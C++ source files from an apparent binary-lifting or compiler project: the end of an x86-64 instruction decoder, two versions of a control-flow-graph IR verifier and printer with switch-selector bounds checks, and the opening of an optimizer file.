    const u8 sib = c.u8v();
    if (!c.ok()) return std::nullopt;
    const u8 scale_bits = sib >> 6;
    const u8 index_bits = (sib >> 3) & 7;
    const u8 base_bits = sib & 7;
    m.scale = static_cast<u8>(1 << scale_bits);
    // index=100 with REX.X=0 means "no index"; with REX.X=1 it is R12.
    if (index_bits == 4 && !rex.x) {
      m.index = Reg::NONE;
      m.scale = 1;
    } else {
      m.index = make_reg(index_bits, rex.x);
    }
    if (base_bits == 5 && mod == 0) {
      m.base = Reg::NONE;  // disp32 with no base
      m.disp = static_cast<i32>(c.i32s());
    } else {
      m.base = make_reg(base_bits, rex.b);
    }
  } else if (rm == 5 && mod == 0) {
    m.rip_relative = true;
    m.disp = static_cast<i32>(c.i32s());
  } else {
    m.base = make_reg(rm, rex.b);
  }

  if (!m.rip_relative && !(rm == 4 && (modrm & 0xC7) == 0x04 &&
                           m.base == Reg::NONE)) {
    if (mod == 1) m.disp = static_cast<i32>(c.i8s());
    if (mod == 2) m.disp = static_cast<i32>(c.i32s());
  }
  if (!c.ok()) return std::nullopt;
  out.rm = Operand::m(m);
  return out;
}

std::optional<Mnemonic> alu_from_ext(u8 ext) {
  switch (ext) {
    case 0: return Mnemonic::ADD;
    case 1: return Mnemonic::OR;
    case 4: return Mnemonic::AND;
    case 5: return Mnemonic::SUB;
    case 6: return Mnemonic::XOR;
    case 7: return Mnemonic::CMP;
    default: return std::nullopt;  // ADC(2)/SBB(3) unsupported
  }
}

std::optional<Mnemonic> shift_from_ext(u8 ext) {
  switch (ext) {
    case 4: return Mnemonic::SHL;
    case 5: return Mnemonic::SHR;
    case 7: return Mnemonic::SAR;
    default: return std::nullopt;
  }
}

std::optional<Inst> decode_impl(Cursor& c) {
  Inst inst;
  Rex rex;

  u8 op = c.u8v();
  if (!c.ok()) return std::nullopt;
  if ((op & 0xF0) == 0x40) {
    rex.present = true;
    rex.w = op & 8;
    rex.r = op & 4;
    rex.x = op & 2;
    rex.b = op & 1;
    op = c.u8v();
    if (!c.ok()) return std::nullopt;
    if ((op & 0xF0) == 0x40) return std::nullopt;  // double REX: reject
  }
  inst.size = rex.w ? 64 : 32;

  auto with_modrm = [&](Mnemonic m, bool dst_is_rm,
                        bool src_none = false) -> std::optional<Inst> {
    auto mr = read_modrm(c, rex);
    if (!mr) return std::nullopt;
    inst.mnemonic = m;
    if (src_none) {
      inst.dst = mr->rm;
    } else if (dst_is_rm) {
      inst.dst = mr->rm;
      inst.src = Operand::r(mr->reg);
    } else {
      inst.dst = Operand::r(mr->reg);
      inst.src = mr->rm;
    }
    return inst;
  };

  switch (op) {
    // -- ALU: op r/m, r and op r, r/m --------------------------------
    case 0x01: return with_modrm(Mnemonic::ADD, true);
    case 0x03: return with_modrm(Mnemonic::ADD, false);
    case 0x09: return with_modrm(Mnemonic::OR, true);
    case 0x0B: return with_modrm(Mnemonic::OR, false);
    case 0x21: return with_modrm(Mnemonic::AND, true);
    case 0x23: return with_modrm(Mnemonic::AND, false);
    case 0x29: return with_modrm(Mnemonic::SUB, true);
    case 0x2B: return with_modrm(Mnemonic::SUB, false);
    case 0x31: return with_modrm(Mnemonic::XOR, true);
    case 0x33: return with_modrm(Mnemonic::XOR, false);
    case 0x39: return with_modrm(Mnemonic::CMP, true);
    case 0x3B: return with_modrm(Mnemonic::CMP, false);
    case 0x85: return with_modrm(Mnemonic::TEST, true);
    case 0x87: return with_modrm(Mnemonic::XCHG, true);
    case 0x89: return with_modrm(Mnemonic::MOV, true);
    case 0x8B: return with_modrm(Mnemonic::MOV, false);
    case 0x8D: {
      auto r = with_modrm(Mnemonic::LEA, false);
      if (!r || !r->src.is_mem()) return std::nullopt;
      return r;
    }

    // -- imm ALU forms -------------------------------------------------
    case 0x81: {
      auto mr = read_modrm(c, rex);
      if (!mr) return std::nullopt;
      auto m = alu_from_ext(mr->reg_field);
      if (!m) return std::nullopt;
      inst.mnemonic = *m;
      inst.dst = mr->rm;
      inst.src = Operand::i(c.i32s());
      if (!c.ok()) return std::nullopt;
      return inst;
    }
    case 0x83: {
      auto mr = read_modrm(c, rex);
      if (!mr) return std::nullopt;
      auto m = alu_from_ext(mr->reg_field);
      if (!m) return std::nullopt;
      inst.mnemonic = *m;
      inst.dst = mr->rm;
      inst.src = Operand::i(c.i8s());
      if (!c.ok()) return std::nullopt;
      return inst;
    }

    // -- mov imm --------------------------------------------------------
    case 0xC7: {
      auto mr = read_modrm(c, rex);
      if (!mr || mr->reg_field != 0) return std::nullopt;
      inst.mnemonic = Mnemonic::MOV;
      inst.dst = mr->rm;
      inst.src = Operand::i(c.i32s());
      if (!c.ok()) return std::nullopt;
      return inst;
    }

    // -- group F7: test/not/neg -----------------------------------------
    case 0xF7: {
      auto mr = read_modrm(c, rex);
      if (!mr) return std::nullopt;
      switch (mr->reg_field) {
        case 0:
          inst.mnemonic = Mnemonic::TEST;
          inst.dst = mr->rm;
          inst.src = Operand::i(c.i32s());
          if (!c.ok()) return std::nullopt;
          return inst;
        case 2:
          inst.mnemonic = Mnemonic::NOT;
          inst.dst = mr->rm;
          return inst;
        case 3:
          inst.mnemonic = Mnemonic::NEG;
          inst.dst = mr->rm;
          return inst;
        default:
          return std::nullopt;  // mul/imul/div/idiv 1-op forms unsupported
      }
    }

    // -- shifts ----------------------------------------------------------
    case 0xC1: {
      auto mr = read_modrm(c, rex);
      if (!mr) return std::nullopt;
      auto m = shift_from_ext(mr->reg_field);
      if (!m) return std::nullopt;
      inst.mnemonic = *m;
      inst.dst = mr->rm;
      inst.src = Operand::i(static_cast<i64>(c.u8v()));
      if (!c.ok()) return std::nullopt;
      return inst;
    }
    case 0xD1: {
      auto mr = read_modrm(c, rex);
      if (!mr) return std::nullopt;
      auto m = shift_from_ext(mr->reg_field);
      if (!m) return std::nullopt;
      inst.mnemonic = *m;
      inst.dst = mr->rm;
      inst.src = Operand::i(1);
      return inst;
    }
    case 0xD3: {
      auto mr = read_modrm(c, rex);
      if (!mr) return std::nullopt;
      auto m = shift_from_ext(mr->reg_field);
      if (!m) return std::nullopt;
      inst.mnemonic = *m;
      inst.dst = mr->rm;
      inst.src = Operand::r(Reg::RCX);
      return inst;
    }

    // -- group FF: inc/dec/call/jmp/push ----------------------------------
    case 0xFF: {
      auto mr = read_modrm(c, rex);
      if (!mr) return std::nullopt;
      switch (mr->reg_field) {
        case 0: inst.mnemonic = Mnemonic::INC; inst.dst = mr->rm; return inst;
        case 1: inst.mnemonic = Mnemonic::DEC; inst.dst = mr->rm; return inst;
        case 2:
          inst.mnemonic = Mnemonic::CALL;
          inst.dst = mr->rm;
          inst.size = 64;
          return inst;
        case 4:
          inst.mnemonic = Mnemonic::JMP;
          inst.dst = mr->rm;
          inst.size = 64;
          return inst;
        case 6:
          inst.mnemonic = Mnemonic::PUSH;
          inst.dst = mr->rm;
          inst.size = 64;
          return inst;
        default: return std::nullopt;
      }
    }
    case 0x8F: {
      auto mr = read_modrm(c, rex);
      if (!mr || mr->reg_field != 0) return std::nullopt;
      inst.mnemonic = Mnemonic::POP;
      inst.dst = mr->rm;
      inst.size = 64;
      return inst;
    }

    // -- push/pop reg ------------------------------------------------------
    case 0x50: case 0x51: case 0x52: case 0x53:
    case 0x54: case 0x55: case 0x56: case 0x57:
      inst.mnemonic = Mnemonic::PUSH;
      inst.dst = Operand::r(make_reg(op & 7, rex.b));
      inst.size = 64;
      return inst;
    case 0x58: case 0x59: case 0x5A: case 0x5B:
    case 0x5C: case 0x5D: case 0x5E: case 0x5F:
      inst.mnemonic = Mnemonic::POP;
      inst.dst = Operand::r(make_reg(op & 7, rex.b));
      inst.size = 64;
      return inst;
    case 0x68:
      inst.mnemonic = Mnemonic::PUSH;
      inst.dst = Operand::i(c.i32s());
      inst.size = 64;
      if (!c.ok()) return std::nullopt;
      return inst;

    // -- mov reg, imm (B8+r) ------------------------------------------------
    case 0xB8: case 0xB9: case 0xBA: case 0xBB:
    case 0xBC: case 0xBD: case 0xBE: case 0xBF: {
      const Reg r = make_reg(op & 7, rex.b);
      if (rex.w) {
        inst.mnemonic = Mnemonic::MOVABS;
        inst.dst = Operand::r(r);
        inst.src = Operand::i(static_cast<i64>(c.u64v()));
      } else {
        inst.mnemonic = Mnemonic::MOV;
        inst.dst = Operand::r(r);
        // Canonical imm representation is sign-extended-to-64 (matches the
        // 0xC7 form); the 32-bit write zero-extends architecturally either
        // way, which the lifter handles by operand size.
        inst.src = Operand::i(static_cast<i64>(static_cast<i32>(c.u32v())));
        inst.size = 32;
      }
      if (!c.ok()) return std::nullopt;
      return inst;
    }

    // -- control flow ----------------------------------------------------
    case 0xC3: inst.mnemonic = Mnemonic::RET; inst.size = 64; return inst;
    case 0xC2:
      inst.mnemonic = Mnemonic::RET;
      inst.dst = Operand::i(static_cast<i64>(c.u16v()));
      inst.size = 64;
      if (!c.ok()) return std::nullopt;
      return inst;
    case 0xE8:
      inst.mnemonic = Mnemonic::CALL;
      inst.dst = Operand::i(c.i32s());
      inst.size = 64;
      if (!c.ok()) return std::nullopt;
      return inst;
    case 0xE9:
      inst.mnemonic = Mnemonic::JMP;
      inst.dst = Operand::i(c.i32s());
      inst.size = 64;
      if (!c.ok()) return std::nullopt;
      return inst;
    case 0xEB:
      inst.mnemonic = Mnemonic::JMP;
      inst.dst = Operand::i(c.i8s());
      inst.size = 64;
      if (!c.ok()) return std::nullopt;
      return inst;

    case 0x70: case 0x71: case 0x72: case 0x73:
    case 0x74: case 0x75: case 0x76: case 0x77:
    case 0x78: case 0x79: case 0x7A: case 0x7B:
    case 0x7C: case 0x7D: case 0x7E: case 0x7F:
      inst.mnemonic = Mnemonic::JCC;
      inst.cond = static_cast<Cond>(op & 0xF);
      inst.dst = Operand::i(c.i8s());
      inst.size = 64;
      if (!c.ok()) return std::nullopt;
      return inst;

    case 0xC9: inst.mnemonic = Mnemonic::LEAVE; inst.size = 64; return inst;
    case 0x90: inst.mnemonic = Mnemonic::NOP; return inst;
    case 0xCC: inst.mnemonic = Mnemonic::INT3; return inst;

    // -- two-byte opcodes --------------------------------------------------
    case 0x0F: {
      const u8 op2 = c.u8v();
      if (!c.ok()) return std::nullopt;
      if (op2 == 0x05) {
        inst.mnemonic = Mnemonic::SYSCALL;
        return inst;
      }
      if (op2 == 0xAF) {
        return with_modrm(Mnemonic::IMUL, false);
      }
      if (op2 == 0xB6 || op2 == 0xB7 || op2 == 0xBE || op2 == 0xBF) {
        auto r = with_modrm(
            op2 < 0xBE ? Mnemonic::MOVZX : Mnemonic::MOVSX, false);
        if (!r) return std::nullopt;
        r->src_size = (op2 & 1) ? 16 : 8;
        return r;
      }
      if ((op2 & 0xF0) == 0x40) {  // cmovcc r, r/m
        auto r = with_modrm(Mnemonic::CMOV, false);
        if (!r) return std::nullopt;
        r->cond = static_cast<Cond>(op2 & 0xF);
        return r;
      }
      if ((op2 & 0xF0) == 0x80) {
        inst.mnemonic = Mnemonic::JCC;
        inst.cond = static_cast<Cond>(op2 & 0xF);
        inst.dst = Operand::i(c.i32s());
        inst.size = 64;
        if (!c.ok()) return std::nullopt;
        return inst;
      }
      return std::nullopt;
    }

    default:
      return std::nullopt;
  }
}

}  // namespace

std::optional<Inst> decode(std::span<const u8> bytes, u64 addr) {
  static metrics::Counter& attempts =
      metrics::registry().counter("decode.attempts");
  static metrics::Counter& failures =
      metrics::registry().counter("decode.failures");
  attempts.add();
  // Injected decode failure (GP_FAULT decode=<rate>): indistinguishable
  // from genuinely undecodable bytes, so it exercises every caller's
  // nullopt path and lands in the same decode_failures accounting.
  if (fault::enabled() && fault::should_fire(fault::Point::Decode)) {
    failures.add();
    return std::nullopt;
  }
  Cursor c(bytes);
  auto inst = decode_impl(c);
  if (!inst || !c.ok()) {
    failures.add();
    return std::nullopt;
  }
  inst->len = static_cast<u8>(c.pos());
  inst->addr = addr;
  return inst;
}

std::vector<Inst> decode_run(std::span<const u8> bytes, u64 addr,
                             int max_insts) {
  std::vector<Inst> out;
  size_t off = 0;
  for (int i = 0; i < max_insts && off < bytes.size(); ++i) {
    auto inst = decode(bytes.subspan(off), addr + off);
    if (!inst) break;
    out.push_back(*inst);
    off += inst->len;
    if (inst->is_terminator()) break;
  }
  return out;
}

}  // namespace gp::x86
