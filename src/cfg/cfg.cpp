#include "cfg/cfg.hpp"

#include <optional>
#include <sstream>

#include "support/str.hpp"

namespace gp::cfg {

bool is_binop(Opcode op) {
  switch (op) {
    case Opcode::Add: case Opcode::Sub: case Opcode::Mul:
    case Opcode::And: case Opcode::Or: case Opcode::Xor:
    case Opcode::Shl: case Opcode::Sar: case Opcode::Shr:
    case Opcode::CmpEq: case Opcode::CmpNe: case Opcode::CmpLt:
    case Opcode::CmpLe: case Opcode::CmpGt: case Opcode::CmpGe:
      return true;
    default:
      return false;
  }
}

bool is_cmp(Opcode op) {
  switch (op) {
    case Opcode::CmpEq: case Opcode::CmpNe: case Opcode::CmpLt:
    case Opcode::CmpLe: case Opcode::CmpGt: case Opcode::CmpGe:
      return true;
    default:
      return false;
  }
}

const char* opcode_name(Opcode op) {
  switch (op) {
    case Opcode::Const: return "const";
    case Opcode::Copy: return "copy";
    case Opcode::Add: return "add";
    case Opcode::Sub: return "sub";
    case Opcode::Mul: return "mul";
    case Opcode::And: return "and";
    case Opcode::Or: return "or";
    case Opcode::Xor: return "xor";
    case Opcode::Shl: return "shl";
    case Opcode::Sar: return "sar";
    case Opcode::Shr: return "shr";
    case Opcode::Not: return "not";
    case Opcode::Neg: return "neg";
    case Opcode::CmpEq: return "cmpeq";
    case Opcode::CmpNe: return "cmpne";
    case Opcode::CmpLt: return "cmplt";
    case Opcode::CmpLe: return "cmple";
    case Opcode::CmpGt: return "cmpgt";
    case Opcode::CmpGe: return "cmpge";
    case Opcode::Load: return "load";
    case Opcode::LoadB: return "loadb";
    case Opcode::Store: return "store";
    case Opcode::StoreB: return "storeb";
    case Opcode::FrameAddr: return "frameaddr";
    case Opcode::GlobalAddr: return "globaladdr";
    case Opcode::Call: return "call";
    case Opcode::Out: return "out";
  }
  return "<bad>";
}

int Program::find_function(const std::string& name) const {
  for (size_t i = 0; i < functions.size(); ++i)
    if (functions[i].name == name) return static_cast<int>(i);
  return -1;
}

i64 Program::add_data(const std::vector<u8>& bytes) {
  const i64 off = static_cast<i64>(data.size());
  data.insert(data.end(), bytes.begin(), bytes.end());
  return off;
}

i64 Program::add_data_string(const std::string& s) {
  const i64 off = static_cast<i64>(data.size());
  data.insert(data.end(), s.begin(), s.end());
  data.push_back(0);
  return off;
}

i64 Program::add_data_zeros(size_t n) {
  const i64 off = static_cast<i64>(data.size());
  data.resize(data.size() + n, 0);
  return off;
}

namespace {

void verify_function(const Program& p, const Function& f) {
  const auto ctx = [&](const std::string& what) {
    return "verify(" + f.name + "): " + what;
  };
  GP_CHECK(f.num_params <= 6, ctx("more than 6 params"));
  GP_CHECK(f.num_temps >= f.num_params, ctx("temps < params"));
  GP_CHECK(!f.blocks.empty(), ctx("no blocks"));
  GP_CHECK(f.entry >= 0 && f.entry < static_cast<BlockId>(f.blocks.size()),
           ctx("entry out of range"));
  auto check_temp = [&](Temp t, bool allow_none = false) {
    if (t == kNoTemp && allow_none) return;
    GP_CHECK(t >= 0 && t < f.num_temps, ctx("temp out of range"));
  };
  auto check_block = [&](BlockId b) {
    GP_CHECK(b >= 0 && b < static_cast<BlockId>(f.blocks.size()),
             ctx("block target out of range"));
  };
  for (const Block& blk : f.blocks) {
    for (const Instr& i : blk.instrs) {
      switch (i.op) {
        case Opcode::Const:
          check_temp(i.dst);
          break;
        case Opcode::Copy:
        case Opcode::Not:
        case Opcode::Neg:
        case Opcode::Out:
          if (i.op == Opcode::Out) {
            check_temp(i.a);
          } else {
            check_temp(i.dst);
            check_temp(i.a);
          }
          break;
        case Opcode::Load:
        case Opcode::LoadB:
          check_temp(i.dst);
          check_temp(i.a);
          break;
        case Opcode::Store:
        case Opcode::StoreB:
          check_temp(i.a);
          check_temp(i.b);
          break;
        case Opcode::FrameAddr:
          check_temp(i.dst);
          GP_CHECK(i.imm >= 0 && i.imm <= f.frame_bytes,
                   ctx("frame offset out of range"));
          break;
        case Opcode::GlobalAddr:
          check_temp(i.dst);
          GP_CHECK(i.imm >= 0 &&
                       i.imm <= static_cast<i64>(p.data.size()),
                   ctx("global offset out of range"));
          break;
        case Opcode::Call: {
          check_temp(i.dst);
          GP_CHECK(i.imm >= 0 &&
                       i.imm < static_cast<i64>(p.functions.size()),
                   ctx("call target out of range"));
          const auto& callee = p.functions[i.imm];
          GP_CHECK(static_cast<int>(i.args.size()) == callee.num_params,
                   ctx("call arg count mismatch for " + callee.name));
          for (const Temp t : i.args) check_temp(t);
          break;
        }
        default:
          GP_CHECK(is_binop(i.op), ctx("unknown opcode"));
          check_temp(i.dst);
          check_temp(i.a);
          check_temp(i.b);
      }
    }
    switch (blk.term.kind) {
      case Terminator::Kind::Jump:
        check_block(blk.term.target);
        break;
      case Terminator::Kind::Branch:
        check_temp(blk.term.cond);
        check_block(blk.term.target);
        check_block(blk.term.fallthrough);
        break;
      case Terminator::Kind::Switch: {
        check_temp(blk.term.cond);
        GP_CHECK(!blk.term.table.empty(), ctx("empty switch table"));
        for (const BlockId b : blk.term.table) check_block(b);
        GP_CHECK(blk.term.sel_bound >= 0 &&
                     blk.term.sel_bound <=
                         static_cast<i64>(blk.term.table.size()),
                 ctx("switch sel_bound wider than table"));
        // A selector whose every definition is a constant is statically
        // decided; any out-of-range constant then guarantees a dispatch
        // past the table on some path — a producer bug, rejected here.
        bool all_const = true, any_oob = false, any_def = false;
        for (const Block& db : f.blocks)
          for (const Instr& di : db.instrs) {
            if (di.dst != blk.term.cond) continue;
            any_def = true;
            if (di.op != Opcode::Const)
              all_const = false;
            else if (di.imm < 0 ||
                     di.imm >= static_cast<i64>(blk.term.table.size()))
              any_oob = true;
          }
        GP_CHECK(!(any_def && all_const && any_oob),
                 ctx("switch selector constant out of range"));
        break;
      }
      case Terminator::Kind::Ret:
        check_temp(blk.term.value);
        break;
    }
  }
}

// Latest definition of `t` strictly before instruction `upto` in `blk`,
// or -1 when the block holds none. Straight-line code within one block,
// so the latest prior def is the reaching def.
int latest_local_def(const Block& blk, size_t upto, Temp t) {
  for (size_t i = upto; i-- > 0;)
    if (blk.instrs[i].dst == t) return static_cast<int>(i);
  return -1;
}

// Resolve `t` to a compile-time constant from its latest in-block def:
// a Const, or a Sub of two resolvable temps (the shape the flattening
// pass computes its state delta with). Nullopt when unresolvable.
std::optional<i64> local_const(const Block& blk, size_t upto, Temp t,
                               int depth = 0) {
  if (depth > 4) return std::nullopt;
  const int di = latest_local_def(blk, upto, t);
  if (di < 0) return std::nullopt;
  const Instr& d = blk.instrs[di];
  if (d.op == Opcode::Const) return d.imm;
  if (d.op == Opcode::Copy) return local_const(blk, di, d.a, depth + 1);
  if (d.op == Opcode::Sub) {
    const auto a = local_const(blk, di, d.a, depth + 1);
    const auto b = local_const(blk, di, d.b, depth + 1);
    if (a && b)
      return static_cast<i64>(static_cast<u64>(*a) - static_cast<u64>(*b));
  }
  return std::nullopt;
}

// Is `t` the 0/1 result of a comparison (latest in-block def)?
bool local_bool(const Block& blk, size_t upto, Temp t) {
  const int di = latest_local_def(blk, upto, t);
  if (di < 0) return false;
  switch (blk.instrs[di].op) {
    case Opcode::CmpEq:
    case Opcode::CmpNe:
    case Opcode::CmpLt:
    case Opcode::CmpLe:
    case Opcode::CmpGt:
    case Opcode::CmpGe:
      return true;
    default:
      return false;
  }
}

}  // namespace

bool switch_selector_bounded(const Function& f, const Terminator& term) {
  if (term.kind != Terminator::Kind::Switch) return false;
  const Temp sel = term.cond;
  const i64 n = static_cast<i64>(term.table.size());
  // Producer-declared bound (verified against the table by cfg::verify).
  if (term.sel_bound > 0 && term.sel_bound <= n) return true;
  // A parameter arrives with a caller-chosen value; no def set can bound
  // the value it may still carry at the switch.
  if (sel < f.num_params) return false;
  bool any_def = false;
  for (const Block& blk : f.blocks) {
    for (size_t i = 0; i < blk.instrs.size(); ++i) {
      const Instr& in = blk.instrs[i];
      if (in.dst != sel) continue;
      any_def = true;
      if (in.op == Opcode::Const) {
        if (in.imm < 0 || in.imm >= n) return false;
        continue;
      }
      if (in.op == Opcode::Copy) {
        const auto c = local_const(blk, i, in.a);
        if (c && *c >= 0 && *c < n) continue;
        return false;
      }
      if (in.op == Opcode::Add) {
        // Flattening's arithmetic select: sel = base + bool * delta, so
        // the value is base or base + delta; both must be in range.
        const auto base = local_const(blk, i, in.a);
        const int mi = latest_local_def(blk, i, in.b);
        if (base && mi >= 0) {
          const Instr& m = blk.instrs[mi];
          if (m.op == Opcode::Mul &&
              local_bool(blk, static_cast<size_t>(mi), m.a)) {
            if (const auto delta =
                    local_const(blk, static_cast<size_t>(mi), m.b)) {
              const i64 lo = *base;
              const i64 hi = static_cast<i64>(static_cast<u64>(*base) +
                                              static_cast<u64>(*delta));
              if (lo >= 0 && lo < n && hi >= 0 && hi < n) continue;
            }
          }
        }
        return false;
      }
      return false;
    }
  }
  // Never defined: the value is the zero-initialized slot only when the
  // program is well-formed; do not claim a bound we cannot see.
  return any_def;
}

void verify(const Program& p) {
  GP_CHECK(p.main_index >= 0 &&
               p.main_index < static_cast<int>(p.functions.size()),
           "verify: missing main");
  GP_CHECK(p.functions[p.main_index].num_params == 0,
           "verify: main must take no params");
  for (const Function& f : p.functions) verify_function(p, f);
}

std::string to_string(const Program& p) {
  std::ostringstream os;
  for (const Function& f : p.functions) {
    os << "func " << f.name << "(" << f.num_params << ") temps="
       << f.num_temps << " frame=" << f.frame_bytes << "\n";
    for (size_t b = 0; b < f.blocks.size(); ++b) {
      os << "  b" << b << ":\n";
      for (const Instr& i : f.blocks[b].instrs) {
        os << "    " << opcode_name(i.op);
        if (i.dst != kNoTemp) os << " t" << i.dst;
        if (i.a != kNoTemp) os << ", t" << i.a;
        if (i.b != kNoTemp) os << ", t" << i.b;
        if (i.op == Opcode::Const || i.op == Opcode::FrameAddr ||
            i.op == Opcode::GlobalAddr || i.op == Opcode::Call ||
            i.op == Opcode::Load || i.op == Opcode::LoadB ||
            i.op == Opcode::Store || i.op == Opcode::StoreB)
          os << ", #" << i.imm;
        for (const Temp t : i.args) os << " t" << t;
        os << "\n";
      }
      const Terminator& t = f.blocks[b].term;
      switch (t.kind) {
        case Terminator::Kind::Jump:
          os << "    jump b" << t.target << "\n";
          break;
        case Terminator::Kind::Branch:
          os << "    branch t" << t.cond << " ? b" << t.target << " : b"
             << t.fallthrough << "\n";
          break;
        case Terminator::Kind::Switch: {
          os << "    switch t" << t.cond << " [";
          for (size_t k = 0; k < t.table.size(); ++k)
            os << (k ? " " : "") << "b" << t.table[k];
          os << "]\n";
          break;
        }
        case Terminator::Kind::Ret:
          os << "    ret t" << t.value << "\n";
          break;
      }
    }
  }
  return os.str();
}

}  // namespace gp::cfg
