#include "cfg/cfg.hpp"

#include <sstream>

#include "support/str.hpp"

namespace gp::cfg {

bool is_binop(Opcode op) {
  switch (op) {
    case Opcode::Add: case Opcode::Sub: case Opcode::Mul:
    case Opcode::And: case Opcode::Or: case Opcode::Xor:
    case Opcode::Shl: case Opcode::Sar: case Opcode::Shr:
    case Opcode::CmpEq: case Opcode::CmpNe: case Opcode::CmpLt:
    case Opcode::CmpLe: case Opcode::CmpGt: case Opcode::CmpGe:
      return true;
    default:
      return false;
  }
}

bool is_cmp(Opcode op) {
  switch (op) {
    case Opcode::CmpEq: case Opcode::CmpNe: case Opcode::CmpLt:
    case Opcode::CmpLe: case Opcode::CmpGt: case Opcode::CmpGe:
      return true;
    default:
      return false;
  }
}

const char* opcode_name(Opcode op) {
  switch (op) {
    case Opcode::Const: return "const";
    case Opcode::Copy: return "copy";
    case Opcode::Add: return "add";
    case Opcode::Sub: return "sub";
    case Opcode::Mul: return "mul";
    case Opcode::And: return "and";
    case Opcode::Or: return "or";
    case Opcode::Xor: return "xor";
    case Opcode::Shl: return "shl";
    case Opcode::Sar: return "sar";
    case Opcode::Shr: return "shr";
    case Opcode::Not: return "not";
    case Opcode::Neg: return "neg";
    case Opcode::CmpEq: return "cmpeq";
    case Opcode::CmpNe: return "cmpne";
    case Opcode::CmpLt: return "cmplt";
    case Opcode::CmpLe: return "cmple";
    case Opcode::CmpGt: return "cmpgt";
    case Opcode::CmpGe: return "cmpge";
    case Opcode::Load: return "load";
    case Opcode::LoadB: return "loadb";
    case Opcode::Store: return "store";
    case Opcode::StoreB: return "storeb";
    case Opcode::FrameAddr: return "frameaddr";
    case Opcode::GlobalAddr: return "globaladdr";
    case Opcode::Call: return "call";
    case Opcode::Out: return "out";
  }
  return "<bad>";
}

int Program::find_function(const std::string& name) const {
  for (size_t i = 0; i < functions.size(); ++i)
    if (functions[i].name == name) return static_cast<int>(i);
  return -1;
}

i64 Program::add_data(const std::vector<u8>& bytes) {
  const i64 off = static_cast<i64>(data.size());
  data.insert(data.end(), bytes.begin(), bytes.end());
  return off;
}

i64 Program::add_data_string(const std::string& s) {
  const i64 off = static_cast<i64>(data.size());
  data.insert(data.end(), s.begin(), s.end());
  data.push_back(0);
  return off;
}

i64 Program::add_data_zeros(size_t n) {
  const i64 off = static_cast<i64>(data.size());
  data.resize(data.size() + n, 0);
  return off;
}

namespace {

void verify_function(const Program& p, const Function& f) {
  const auto ctx = [&](const std::string& what) {
    return "verify(" + f.name + "): " + what;
  };
  GP_CHECK(f.num_params <= 6, ctx("more than 6 params"));
  GP_CHECK(f.num_temps >= f.num_params, ctx("temps < params"));
  GP_CHECK(!f.blocks.empty(), ctx("no blocks"));
  GP_CHECK(f.entry >= 0 && f.entry < static_cast<BlockId>(f.blocks.size()),
           ctx("entry out of range"));
  auto check_temp = [&](Temp t, bool allow_none = false) {
    if (t == kNoTemp && allow_none) return;
    GP_CHECK(t >= 0 && t < f.num_temps, ctx("temp out of range"));
  };
  auto check_block = [&](BlockId b) {
    GP_CHECK(b >= 0 && b < static_cast<BlockId>(f.blocks.size()),
             ctx("block target out of range"));
  };
  for (const Block& blk : f.blocks) {
    for (const Instr& i : blk.instrs) {
      switch (i.op) {
        case Opcode::Const:
          check_temp(i.dst);
          break;
        case Opcode::Copy:
        case Opcode::Not:
        case Opcode::Neg:
        case Opcode::Out:
          if (i.op == Opcode::Out) {
            check_temp(i.a);
          } else {
            check_temp(i.dst);
            check_temp(i.a);
          }
          break;
        case Opcode::Load:
        case Opcode::LoadB:
          check_temp(i.dst);
          check_temp(i.a);
          break;
        case Opcode::Store:
        case Opcode::StoreB:
          check_temp(i.a);
          check_temp(i.b);
          break;
        case Opcode::FrameAddr:
          check_temp(i.dst);
          GP_CHECK(i.imm >= 0 && i.imm <= f.frame_bytes,
                   ctx("frame offset out of range"));
          break;
        case Opcode::GlobalAddr:
          check_temp(i.dst);
          GP_CHECK(i.imm >= 0 &&
                       i.imm <= static_cast<i64>(p.data.size()),
                   ctx("global offset out of range"));
          break;
        case Opcode::Call: {
          check_temp(i.dst);
          GP_CHECK(i.imm >= 0 &&
                       i.imm < static_cast<i64>(p.functions.size()),
                   ctx("call target out of range"));
          const auto& callee = p.functions[i.imm];
          GP_CHECK(static_cast<int>(i.args.size()) == callee.num_params,
                   ctx("call arg count mismatch for " + callee.name));
          for (const Temp t : i.args) check_temp(t);
          break;
        }
        default:
          GP_CHECK(is_binop(i.op), ctx("unknown opcode"));
          check_temp(i.dst);
          check_temp(i.a);
          check_temp(i.b);
      }
    }
    switch (blk.term.kind) {
      case Terminator::Kind::Jump:
        check_block(blk.term.target);
        break;
      case Terminator::Kind::Branch:
        check_temp(blk.term.cond);
        check_block(blk.term.target);
        check_block(blk.term.fallthrough);
        break;
      case Terminator::Kind::Switch:
        check_temp(blk.term.cond);
        GP_CHECK(!blk.term.table.empty(), ctx("empty switch table"));
        for (const BlockId b : blk.term.table) check_block(b);
        break;
      case Terminator::Kind::Ret:
        check_temp(blk.term.value);
        break;
    }
  }
}

}  // namespace

void verify(const Program& p) {
  GP_CHECK(p.main_index >= 0 &&
               p.main_index < static_cast<int>(p.functions.size()),
           "verify: missing main");
  GP_CHECK(p.functions[p.main_index].num_params == 0,
           "verify: main must take no params");
  for (const Function& f : p.functions) verify_function(p, f);
}

std::string to_string(const Program& p) {
  std::ostringstream os;
  for (const Function& f : p.functions) {
    os << "func " << f.name << "(" << f.num_params << ") temps="
       << f.num_temps << " frame=" << f.frame_bytes << "\n";
    for (size_t b = 0; b < f.blocks.size(); ++b) {
      os << "  b" << b << ":\n";
      for (const Instr& i : f.blocks[b].instrs) {
        os << "    " << opcode_name(i.op);
        if (i.dst != kNoTemp) os << " t" << i.dst;
        if (i.a != kNoTemp) os << ", t" << i.a;
        if (i.b != kNoTemp) os << ", t" << i.b;
        if (i.op == Opcode::Const || i.op == Opcode::FrameAddr ||
            i.op == Opcode::GlobalAddr || i.op == Opcode::Call ||
            i.op == Opcode::Load || i.op == Opcode::LoadB ||
            i.op == Opcode::Store || i.op == Opcode::StoreB)
          os << ", #" << i.imm;
        for (const Temp t : i.args) os << " t" << t;
        os << "\n";
      }
      const Terminator& t = f.blocks[b].term;
      switch (t.kind) {
        case Terminator::Kind::Jump:
          os << "    jump b" << t.target << "\n";
          break;
        case Terminator::Kind::Branch:
          os << "    branch t" << t.cond << " ? b" << t.target << " : b"
             << t.fallthrough << "\n";
          break;
        case Terminator::Kind::Switch: {
          os << "    switch t" << t.cond << " [";
          for (size_t k = 0; k < t.table.size(); ++k)
            os << (k ? " " : "") << "b" << t.table[k];
          os << "]\n";
          break;
        }
        case Terminator::Kind::Ret:
          os << "    ret t" << t.value << "\n";
          break;
      }
    }
  }
  return os.str();
}

}  // namespace gp::cfg
