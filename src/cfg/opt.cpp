#include "cfg/opt.hpp"

#include <unordered_map>
